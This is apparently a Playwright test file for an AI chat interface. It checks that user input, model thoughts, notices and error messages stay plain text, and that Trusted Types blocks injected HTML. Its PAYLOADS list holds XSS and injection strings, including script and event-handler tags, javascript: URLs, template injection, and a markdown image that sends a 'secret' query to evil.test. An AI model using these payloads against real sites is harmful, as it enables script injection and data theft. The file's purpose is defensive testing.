# SPDX-License-Identifier: Apache-2.0
"""Nothing that anybody writes becomes more than text."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
from playwright.sync_api import expect

from page.stub_server import Stub

if TYPE_CHECKING:
    from page.conftest import Open

pytestmark = pytest.mark.timeout(300)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><iframe src='javascript:alert(1)'></iframe>",
    "'-alert(1)-'",
    "</textarea></p></main><h1>out</h1>",
    "![x](https://evil.test/?q=secret)",
    "[x](javascript:alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)//%0Aalert(1)",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<a href='https://evil.test' autofocus onfocus=alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe \u2066 \ufeff \u2028 Z\u0351\u0344a\u0351l",
    "data: x\n\nevent: done\ndata: {}\n\n",
]
# The elements of a page with one turn: payloads must not add any.
CENSUS = """() => {
    const count = {}
    for (const one of document.body.querySelectorAll('*')) {
        count[one.tagName] = (count[one.tagName] ?? 0) + 1
        for (const { name } of one.attributes) {
            if (name.startsWith('on') || name === 'style' && one.id !== 'user-input') {
                count[name] = 1
            }
        }
    }
    return count
}"""


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_texts_stay_texts(visit: Open, number: int) -> None:
    def census(text: str) -> dict[str, int]:
        stub = Stub()
        stub.new_conversation(text or "x")
        page = visit(stub=stub)
        page.send(text or "x")
        turn = page.stub.wait_for_turns(1)
        stub.fault = {"code": "x", "message": text or "x", "remedy": text or "x"}
        turn.think(text or "x")
        turn.add(
            ("status", {"text": text or "x"}),
            ("notice", {"i": 0, "text": text or "x"}),
        )
        turn.say("```\n" + (text or "x"))
        turn.say("\n```\n\nEnd")
        page.page.get_by_text("End", exact=True).wait_for()
        failure = {"code": "x", "message": text or "x", "remedy": text or "x"}
        turn.finish("failed", failure)
        page.until("failed")
        expect(page.page.locator("#conversations a")).to_have_count(2)
        if text:
            sent = text.strip().replace("\r", "\n")
            assert (page.page.text_content(".you .text") or "").strip() == sent
            assert page.page.text_content(".thought") == text
        page.page.reload()
        page.until("failed")
        page.page.locator("#fault").wait_for()
        expect(page.page.locator("#conversations a")).to_have_count(2)
        found: dict[str, int] = page.page.evaluate(CENSUS)
        return found

    assert census(PAYLOADS[number]) == census("")


def test_only_the_blocks_of_the_server_become_elements(visit: Open) -> None:
    page = visit()
    for text in [
        "document.body.innerHTML = '<b>x</b>'",
        "trustedTypes.createPolicy('another', { createHTML: (html) => html })",
        "trustedTypes.createPolicy('amaru-md', { createHTML: (html) => html })",
    ]:
        refused = page.page.evaluate(
            "text => { try { (0, eval)(text) } catch (error) { return error.name } }",
            text,
        )
        assert refused in ("TypeError", "EvalError")
    page.expected = ["Trusted", "trusted", "eval", "policy"]


def test_a_link_to_the_page_never_sends_anything(visit: Open) -> None:
    page = visit(path="?q=hello&query=hello#message=hello")
    page.page.locator("#empty").wait_for()
    assert page.stub.turns == []
    assert page.page.input_value("#user-input") == ""
